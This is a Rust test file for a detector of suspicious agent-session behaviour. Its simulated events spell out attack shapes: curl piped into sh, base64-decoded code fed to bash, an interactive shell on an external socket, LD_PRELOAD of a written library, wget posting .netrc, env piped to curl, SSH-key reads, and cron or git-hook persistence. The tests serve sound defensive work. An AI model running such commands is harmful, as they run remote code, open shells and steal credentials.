    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            // curl -o /tmp/x.sh …: the shell's child opens the file, then becomes curl.
            open(T0, 10, "/tmp/x.sh", WRITE_NEW),
            exec_child(
                T0 + 1,
                10,
                1,
                "/usr/bin/curl",
                &["curl", "-o", "/tmp/x.sh", "u"],
            ),
            connect(T0 + 2, 10, "203.0.113.9", 80),
            // sh x.sh (relative): the shell reads the script by its resolved path.
            exec_child(T0 + 3, 11, 1, "/usr/bin/sh", &["sh", "x.sh"]),
            open(
                T0 + 4,
                11,
                "/usr/lib/locale/locale-archive",
                libc::O_RDONLY as u32,
            ),
        ],
        &h,
    );
    assert!(!s.context().history.written_file_run, "not read yet");
    fold(
        &mut s,
        &[open(T0 + 5, 11, "/tmp/x.sh", libc::O_RDONLY as u32)],
        &h,
    );
    let hist = &s.context().history;
    assert!(hist.written_file_run && hist.fetched_file_run);
    // A script the session did not write is just a script.
    let mut s = SessionContext::new(2);
    fold(
        &mut s,
        &[
            exec_child(T0, 20, 1, "/usr/bin/python3", &["python3", "tool.py"]),
            open(T0 + 1, 20, "/srv/tool.py", libc::O_RDONLY as u32),
        ],
        &h,
    );
    assert!(!s.context().history.written_file_run);
}

fn with_facts(mut e: Event, f: crate::event::ExecFacts) -> Event {
    if let Detail::Exec(x) = &mut e.detail {
        x.facts = f;
    }
    e
}

fn stdio(fd: u8, kind: crate::event::FdKind, id: u64, peer: Option<&str>) -> crate::event::StdioFd {
    crate::event::StdioFd {
        fd,
        kind,
        file: Some(crate::event::FileId { dev: 9, ino: id }),
        family: peer.map(|_| libc::AF_INET as u16),
        peer: peer.map(|p| SockAddr::Inet {
            addr: p.parse().unwrap(),
            port: 4444,
            v4_mapped: false,
        }),
    }
}

fn with_id(mut e: Event, dev: u64, ino: u64) -> Event {
    if let Detail::Open(o) = &mut e.detail {
        o.facts.file = Some(crate::event::FileId { dev, ino });
    }
    e
}

#[test]
fn a_written_file_renamed_before_it_runs_is_still_the_written_file() {
    use crate::event::{ExecFacts, FileId};
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            with_id(open(T0, 10, "/tmp/payload", WRITE_NEW), 8, 100),
            // mv /tmp/payload /home/u/bin/tool && tool: another name, the same file.
            with_facts(
                exec_child(T0 + 1, 11, 1, "/home/u/bin/tool", &["tool"]),
                ExecFacts {
                    file: Some(FileId { dev: 8, ino: 100 }),
                    ..ExecFacts::default()
                },
            ),
        ],
        &h,
    );
    assert!(s.context().history.written_file_run);
}

#[test]
fn downloaded_or_decoded_code_piped_into_a_shell() {
    use crate::event::{ExecFacts, FdKind};
    let h = Heuristics::default();
    let piped = |first: &str, second: &str, argv1: &[&str], argv2: &[&str]| {
        let mut s = SessionContext::new(1);
        let out = ExecFacts {
            stdio: vec![stdio(1, FdKind::Pipe, 77, None)],
            ..ExecFacts::default()
        };
        let inp = ExecFacts {
            stdio: vec![stdio(0, FdKind::Pipe, 77, None)],
            ..ExecFacts::default()
        };
        let (a, b) = (
            with_facts(exec_child(T0, 10, 1, first, argv1), out),
            with_facts(exec_child(T0, 11, 1, second, argv2), inp),
        );
        fold(&mut s, &[a, b], &h);
        s.context().history.clone()
    };
    let h1 = piped(
        "/usr/bin/curl",
        "/usr/bin/sh",
        &["curl", "-s", "u"],
        &["sh"],
    );
    assert!(h1.fetched_code_piped && !h1.decoded_code_piped);
    // The shell may exec first: the pipe joins them either way.
    let mut s = SessionContext::new(2);
    fold(
        &mut s,
        &[
            with_facts(
                exec_child(T0, 11, 1, "/usr/bin/bash", &["bash"]),
                ExecFacts {
                    stdio: vec![stdio(0, FdKind::Pipe, 5, None)],
                    ..ExecFacts::default()
                },
            ),
            with_facts(
                exec_child(T0, 10, 1, "/usr/bin/base64", &["base64", "-d"]),
                ExecFacts {
                    stdio: vec![stdio(1, FdKind::Pipe, 5, None)],
                    ..ExecFacts::default()
                },
            ),
        ],
        &h,
    );
    assert!(s.context().history.decoded_code_piped);
    // Output piped into a pager is not code run.
    let h3 = piped("/usr/bin/curl", "/usr/bin/less", &["curl", "u"], &["less"]);
    assert!(!h3.fetched_code_piped);
}

#[test]
fn a_shell_on_a_socket_to_an_external_peer() {
    use crate::event::{ExecFacts, FdKind};
    let h = Heuristics::default();
    let shell = |peer: &str| {
        let mut s = SessionContext::new(1);
        fold(
            &mut s,
            &[with_facts(
                exec_child(T0, 10, 1, "/usr/bin/bash", &["bash", "-i"]),
                ExecFacts {
                    stdio: vec![
                        stdio(0, FdKind::Socket, 3, Some(peer)),
                        stdio(1, FdKind::Socket, 3, Some(peer)),
                    ],
                    ..ExecFacts::default()
                },
            )],
            &h,
        );
        s.context().history.interpreter_on_socket
    };
    assert!(shell("198.51.100.2"));
    assert!(!shell("127.0.0.1"), "a loopback peer is not external");
}

#[test]
fn a_preloaded_library_the_session_wrote() {
    use crate::event::{Bytes as B, ExecFacts};
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    let preload = |t, lib: &str| {
        with_facts(
            exec_child(t, 12, 1, "/usr/bin/ls", &["ls"]),
            ExecFacts {
                loader_env: vec![B::from(format!("LD_PRELOAD={lib}").as_str())],
                ..ExecFacts::default()
            },
        )
    };
    fold(&mut s, &[preload(T0, "/usr/lib/libfaketime.so")], &h);
    let hist = &s.context().history;
    assert!(hist.loader_preload && !hist.loader_preload_written);
    fold(
        &mut s,
        &[
            open(T0 + 1, 11, "/dev/shm/x.so", WRITE_NEW),
            preload(T0 + 2, "/dev/shm/x.so"),
        ],
        &h,
    );
    assert!(s.context().history.loader_preload_written);
}

#[test]
fn data_piped_into_an_interpreter_running_its_own_program_is_not_code() {
    use crate::event::{ExecFacts, FdKind};
    let h = Heuristics::default();
    for argv in [
        &["python3", "-m", "json.tool"][..],
        &["python3", "-c", "import sys; print(len(sys.stdin.read()))"],
        &["sh", "-c", "wc -l"],
    ] {
        let mut s = SessionContext::new(1);
        fold(
            &mut s,
            &[
                with_facts(
                    exec_child(T0, 10, 1, "/usr/bin/curl", &["curl", "-s", "u"]),
                    ExecFacts {
                        stdio: vec![stdio(1, FdKind::Pipe, 77, None)],
                        ..ExecFacts::default()
                    },
                ),
                with_facts(
                    exec_child(T0, 11, 1, &format!("/usr/bin/{}", argv[0]), argv),
                    ExecFacts {
                        stdio: vec![stdio(0, FdKind::Pipe, 77, None)],
                        ..ExecFacts::default()
                    },
                ),
            ],
            &h,
        );
        assert!(!s.context().history.fetched_code_piped, "{argv:?}");
    }
}

#[test]
fn fetched_code_and_what_it_starts_calling_out() {
    use crate::event::{ExecFacts, FdKind};
    let h = Heuristics::default();
    // curl -o x.sh; sh x.sh; x.sh's child curl beacons: the second stage calls home.
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            exec_child(T0, 10, 1, "/usr/bin/curl", &["curl", "-o", "/w/x.sh", "u"]),
            open(T0 + 1, 10, "/w/x.sh", WRITE_NEW),
            exec_child(T0 + 2, 11, 1, "/usr/bin/sh", &["sh", "/w/x.sh"]),
            open(T0 + 3, 11, "/w/x.sh", 0),
        ],
        &h,
    );
    assert!(s.context().history.fetched_file_run);
    assert!(!s.context().history.fetched_code_then_external);
    fold(
        &mut s,
        &[
            exec_child(T0 + 4, 12, 11, "/usr/bin/curl", &["curl", "http://h/b"]),
            connect(T0 + 5, 12, "198.51.100.2", 80),
        ],
        &h,
    );
    assert!(s.context().history.fetched_code_then_external);
    // The same shape with a script the agent wrote itself: nothing fetched calls out.
    let mut s = SessionContext::new(2);
    fold(
        &mut s,
        &[
            exec_child(T0, 10, 1, "/usr/bin/cat", &["cat"]),
            open(T0 + 1, 10, "/w/x.sh", WRITE_NEW),
            exec_child(T0 + 2, 11, 1, "/usr/bin/sh", &["sh", "/w/x.sh"]),
            open(T0 + 3, 11, "/w/x.sh", 0),
            exec_child(T0 + 4, 12, 11, "/usr/bin/curl", &["curl", "http://h/b"]),
            connect(T0 + 5, 12, "198.51.100.2", 80),
        ],
        &h,
    );
    assert!(!s.context().history.fetched_code_then_external);
    // `curl | sh` where the shell started first: marked when the pipe's writer shows up.
    let mut s = SessionContext::new(3);
    fold(
        &mut s,
        &[
            with_facts(
                exec_child(T0, 11, 1, "/usr/bin/sh", &["sh"]),
                ExecFacts {
                    stdio: vec![stdio(0, FdKind::Pipe, 5, None)],
                    ..ExecFacts::default()
                },
            ),
            with_facts(
                exec_child(T0 + 1, 10, 1, "/usr/bin/curl", &["curl", "-s", "u"]),
                ExecFacts {
                    stdio: vec![stdio(1, FdKind::Pipe, 5, None)],
                    ..ExecFacts::default()
                },
            ),
            connect(T0 + 2, 10, "198.51.100.2", 80),
        ],
        &h,
    );
    assert!(
        !s.context().history.fetched_code_then_external,
        "curl's own fetch"
    );
    fold(
        &mut s,
        &[
            exec_child(T0 + 3, 12, 11, "/usr/bin/id", &["id"]),
            connect(T0 + 4, 11, "198.51.100.2", 4444),
        ],
        &h,
    );
    assert!(s.context().history.fetched_code_then_external);
}

#[test]
fn credential_reads_that_are_not_theft() {
    let h = Heuristics {
        sensitive_path_prefixes: vec!["/etc/shadow".into()],
        sensitive_path_patterns: vec!["/.ssh/id_".into(), "/.netrc".into(), "/.env$".into()],
        ..Heuristics::default()
    };
    let reads = |events: &[Event]| {
        let mut s = SessionContext::new(1);
        fold(&mut s, events, &h);
        s.context().history.sensitive_read_count
    };
    // ssh reading its key, sudo its policy, wget the .netrc it was not told about.
    assert_eq!(
        reads(&[
            exec_child(T0, 10, 1, "/usr/bin/ssh", &["ssh", "host"]),
            open(T0 + 1, 10, "/home/u/.ssh/id_ed25519", 0),
            exec_child(T0 + 2, 11, 1, "/usr/bin/wget", &["wget", "http://h/f"]),
            open(T0 + 3, 11, "/home/u/.netrc", 0),
            exec_child(T0 + 4, 12, 1, "/usr/bin/sudo", &["sudo", "-n", "true"]),
            open(T0 + 5, 12, "/etc/shadow", 0),
        ]),
        0
    );
    // wget told to post the .netrc, cat reading the key: theft.
    assert_eq!(
        reads(&[
            exec_child(
                T0,
                11,
                1,
                "/usr/bin/wget",
                &["wget", "--post-file=/home/u/.netrc", "u"]
            ),
            open(T0 + 1, 11, "/home/u/.netrc", 0),
            exec_child(
                T0 + 2,
                12,
                1,
                "/usr/bin/cat",
                &["cat", "/home/u/.ssh/id_rsa"]
            ),
            open(T0 + 3, 12, "/home/u/.ssh/id_rsa", 0),
        ]),
        2
    );
    // A project's own .env the session wrote; a directory listing; `.envrc`.
    assert_eq!(
        reads(&[
            open(T0, 10, "/w/app/.env", WRITE_NEW),
            open(T0 + 1, 11, "/w/app/.env", 0),
            open(T0 + 2, 11, "/home/u/.ssh/id_dir", 0o200000),
            open(T0 + 3, 11, "/w/app/.envrc", 0),
        ]),
        0
    );
    assert_eq!(reads(&[open(T0, 11, "/home/u/other/.env", 0)]), 1);
}

#[test]
fn a_hook_in_the_sessions_own_repository_is_not_persistence() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            // `git init` copies sample hooks and writes `description` and `info/exclude`.
            open(T0, 10, "/w/r/.git/hooks/pre-commit.sample", WRITE_NEW),
            open(T0 + 1, 10, "/w/r/.git/description", WRITE_NEW),
            open(T0 + 2, 11, "/w/r/.git/hooks/pre-commit", WRITE_NEW),
        ],
        &h,
    );
    assert!(!s.context().history.persistence_written);
    // `git config` in someone else's repository (`config.lock`, then `config`) does not make
    // it the session's own.
    fold(
        &mut s,
        &[
            open(T0 + 3, 10, "/home/u/proj/.git/config.lock", WRITE_NEW),
            open(T0 + 3, 10, "/home/u/proj/.git/config", WRITE_NEW),
            open(T0 + 3, 11, "/home/u/proj/.git/hooks/post-merge", WRITE_NEW),
        ],
        &h,
    );
    assert!(s.context().history.persistence_written);
    assert_eq!(s.context().history.persistence_kinds, ["git_hook"]);
}

#[test]
fn denied_persistence_writes_and_sends_by_other_routes() {
    use crate::event::{Activity, SendVolume, SocketOp, SocketOpKind, TcpState};
    let h = Heuristics {
        sensitive_path_patterns: vec!["/.aws/credentials".into()],
        ..Heuristics::default()
    };
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[open_res(T0, 10, "/etc/cron.d/sync", WRITE_NEW, -13)],
        &h,
    );
    assert!(s.context().history.persistence_attempted);
    // A UDP datagram after a credential read: data went out without a connect.
    let udp = event(
        T0 + 2,
        11,
        "python3",
        Detail::Activity(Activity::Socket(SocketOp {
            op: SocketOpKind::Sendto,
            result: 40,
            fd: 3,
            addr: SockAddr::Inet {
                addr: "198.51.100.2".parse().unwrap(),
                port: 53,
                v4_mapped: false,
            },
            len: 40,
        })),
    );
    fold(
        &mut s,
        &[open(T0 + 1, 11, "/home/u/.aws/credentials", 0), udp],
        &h,
    );
    assert!(s.context().history.sensitive_then_external);
    assert_eq!(s.context().history.external_bytes_sent, 40);
    // An upload that reads the file after connecting: the send after the read counts.
    let mut s = SessionContext::new(2);
    let remote = SockAddr::Inet {
        addr: "198.51.100.2".parse().unwrap(),
        port: 8080,
        v4_mapped: false,
    };
    fold(
        &mut s,
        &[
            event(
                T0,
                12,
                "curl",
                Detail::Activity(Activity::Tcp(TcpState {
                    old: "close",
                    new: "syn_sent",
                    local: SockAddr::Unspec,
                    remote: remote.clone(),
                })),
            ),
            open(T0 + 1, 12, "/home/u/.aws/credentials", 0),
        ],
        &h,
    );
    assert!(!s.context().history.sensitive_then_external);
    fold(
        &mut s,
        &[event(
            T0 + 2,
            12,
            "curl",
            Detail::Activity(Activity::SendVolume(SendVolume {
                total_bytes: 300,
                last_bytes: 300,
                protocol: 6,
                remote,
                local_port: 40000,
            })),
        )],
        &h,
    );
    assert!(s.context().history.sensitive_then_external);
}

#[test]
fn a_port_scan_tries_many_ports_on_one_host() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    let events: Vec<Event> = [21, 22, 80, 443, 8080]
        .iter()
        .enumerate()
        .map(|(i, p)| connect(T0 + i as u64, 10, "198.51.100.2", *p))
        .collect();
    fold(&mut s, &events, &h);
    assert_eq!(s.context().history.ports_probed_max, 5);
    fold(&mut s, &[connect(T0 + 9, 10, "203.0.113.9", 443)], &h);
    assert_eq!(s.context().history.ports_probed_max, 5);
}

#[test]
fn what_a_package_manager_downloads_is_not_a_fetched_file() {
    let h = Heuristics::default();
    let run_after = |installer: &[&str]| {
        let mut s = SessionContext::new(1);
        fold(
            &mut s,
            &[
                exec_child(T0, 10, 1, &format!("/usr/bin/{}", installer[0]), installer),
                connect(T0 + 1, 10, "151.101.0.223", 443),
                open(T0 + 2, 10, "/w/.venv/bin/tool", WRITE_NEW),
                exec_child(T0 + 3, 11, 1, "/w/.venv/bin/tool", &["tool"]),
            ],
            &h,
        );
        s.context().history.fetched_file_run
    };
    assert!(!run_after(&["pip", "install", "tool"]));
    assert!(!run_after(&["python3", "-m", "pip", "install", "tool"]));
    assert!(!run_after(&["npm", "install", "-g", "tool"]));
    // The same shape by a script that downloads it by hand.
    assert!(run_after(&["python3", "get.py"]));
}

#[test]
fn the_environment_piped_into_a_network_tool_is_a_secret_sent() {
    use crate::event::{ExecFacts, FdKind};
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            with_facts(
                exec_child(T0, 10, 1, "/usr/bin/env", &["env"]),
                ExecFacts {
                    stdio: vec![stdio(1, FdKind::Pipe, 31, None)],
                    ..ExecFacts::default()
                },
            ),
            with_facts(
                exec_child(
                    T0,
                    11,
                    1,
                    "/usr/bin/curl",
                    &["curl", "-d", "@-", "http://h"],
                ),
                ExecFacts {
                    stdio: vec![stdio(0, FdKind::Pipe, 31, None)],
                    ..ExecFacts::default()
                },
            ),
            connect(T0 + 1, 11, "198.51.100.2", 80),
        ],
        &h,
    );
    assert!(s.context().history.sensitive_then_external);
    // `env | grep PATH`: nothing sent.
    let mut s = SessionContext::new(2);
    fold(
        &mut s,
        &[
            with_facts(
                exec_child(T0, 10, 1, "/usr/bin/env", &["env"]),
                ExecFacts {
                    stdio: vec![stdio(1, FdKind::Pipe, 31, None)],
                    ..ExecFacts::default()
                },
            ),
            exec_child(T0, 11, 1, "/usr/bin/curl", &["curl", "-s", "http://h"]),
            connect(T0 + 1, 11, "198.51.100.2", 80),
        ],
        &h,
    );
    assert!(!s.context().history.sensitive_then_external);
}

#[test]
fn an_interactive_shell_on_a_pipe_is_a_reverse_shell() {
    use crate::event::{ExecFacts, FdKind};
    let h = Heuristics::default();
    let run = |argv: &[&str]| {
        let mut s = SessionContext::new(1);
        fold(
            &mut s,
            &[with_facts(
                exec_child(T0, 10, 1, "/usr/bin/sh", argv),
                ExecFacts {
                    stdio: vec![stdio(0, FdKind::Pipe, 5, None)],
                    ..ExecFacts::default()
                },
            )],
            &h,
        );
        s.context().history.interpreter_on_socket
    };
    assert!(run(&["sh", "-i"]));
    assert!(!run(&["sh", "-c", "wc -l"]));
}

#[test]
fn a_package_manager_connecting_after_a_secret_read_sends_nothing() {
    let h = Heuristics {
        sensitive_path_patterns: vec!["/.aws/credentials".into(), "/.ssh/id_".into()],
        ..Heuristics::default()
    };
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            exec_child(
                T0,
                10,
                1,
                "/usr/bin/cat",
                &["cat", "/home/u/.aws/credentials"],
            ),
            open(T0 + 1, 10, "/home/u/.aws/credentials", 0),
            // Reading a public key is no secret either.
            open(T0 + 1, 10, "/home/u/.ssh/id_ed25519.pub", 0),
            exec_child(T0 + 2, 11, 1, "/usr/bin/pip", &["pip", "install", "boto3"]),
            connect(T0 + 3, 11, "151.101.0.223", 443),
        ],
        &h,
    );
    assert_eq!(s.context().history.sensitive_read_count, 1);
    assert!(!s.context().history.sensitive_then_external);
    fold(
        &mut s,
        &[
            exec_child(T0 + 4, 12, 1, "/usr/bin/curl", &["curl", "http://h"]),
            connect(T0 + 5, 12, "198.51.100.2", 80),
        ],
        &h,
    );
    assert!(s.context().history.sensitive_then_external);
}

#[test]
fn a_process_renamed_after_the_runtime_masquerades() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    let mut renamed = open(T0 + 1, 10, "/tmp/x", 0);
    renamed.comm = Bytes::from("openclaw");
    fold(
        &mut s,
        &[
            exec_child(T0, 10, 1, "/usr/bin/python3", &["python3", "x.py"]),
            renamed,
        ],
        &h,
    );
    assert!(s.context().history.masquerade_run);
    // The runtime itself: node titled `openclaw`.
    let mut s = SessionContext::new(2);
    let mut titled = open(T0 + 1, 10, "/tmp/x", 0);
    titled.comm = Bytes::from("openclaw");
    fold(
        &mut s,
        &[
            exec_child(T0, 10, 1, "/opt/node/bin/node", &["node", "openclaw"]),
            titled,
        ],
        &h,
    );
    assert!(!s.context().history.masquerade_run);
}

#[test]
fn ssh_logging_in_with_a_key_named_on_its_command_line_uses_it() {
    let h = Heuristics {
        sensitive_path_patterns: vec!["/.ssh/id_".into()],
        ..Heuristics::default()
    };
    let reads = |argv: &[&str]| {
        let mut s = SessionContext::new(1);
        fold(
            &mut s,
            &[
                exec_child(T0, 10, 1, &format!("/usr/bin/{}", argv[0]), argv),
                open(T0 + 1, 10, "/home/u/.ssh/id_deploy", 0),
            ],
            &h,
        );
        s.context().history.sensitive_read_count
    };
    assert_eq!(
        reads(&["ssh", "-i", "/home/u/.ssh/id_deploy", "git@host"]),
        0
    );
    assert_eq!(
        reads(&["ssh", "-o", "IdentityFile=/home/u/.ssh/id_deploy", "host"]),
        0
    );
    // scp copying the key somewhere is sending it.
    assert_eq!(reads(&["scp", "/home/u/.ssh/id_deploy", "h:/tmp/"]), 1);
}
